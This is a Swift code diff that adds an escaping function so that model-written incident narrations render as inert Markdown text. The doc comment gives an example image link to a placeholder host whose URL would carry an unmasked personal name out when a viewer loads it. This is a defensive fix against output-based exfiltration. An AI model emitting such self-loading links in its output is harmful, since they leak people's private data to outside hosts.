@@ -42,6 +42,18 @@ struct IncidentNarration: Encodable {
 
     static let heading = "Narrator (model-written from masked evidence; not evidence, proposes nothing)"
 
+    /// A model's text as Markdown that links and loads nothing: `[`, `]`, `<` and `>` escaped. The text
+    /// is unmasked after the model wrote it, so `![x](https://host/?n=NAME_1)` would carry a real name
+    /// to any host once a viewer loads the image; escaped, it is text.
+    static func inert(_ text: String) -> String {
+        var escaped = ""
+        for character in text {
+            if "\\[]<>".contains(character) { escaped.append("\\") }
+            escaped.append(character)
+        }
+        return escaped
+    }
+
     /// The section after a text or Markdown report.
     static func render(_ narrations: [IncidentNarration], model: String, markdown: Bool) -> String {
         guard !narrations.isEmpty else { return "" }
@@ -49,8 +61,8 @@ struct IncidentNarration: Encodable {
         for narration in narrations {
             let body = narration.text ?? "no narration: \(narration.error ?? "")"
             if markdown {
-                text +=
-                    "- **\(narration.workload)** (`\(narration.incident)`): \(body.replacingOccurrences(of: "\n", with: " "))\n"
+                let line = inert(body.replacingOccurrences(of: "\n", with: " "))
+                text += "- **\(narration.workload)** (`\(narration.incident)`): \(line)\n"
             } else {
                 text += "  \(narration.workload) [\(narration.incident)]:\n"
                 text += body.split(separator: "\n", omittingEmptySubsequences: false).map { "    \($0)\n" }.joined()
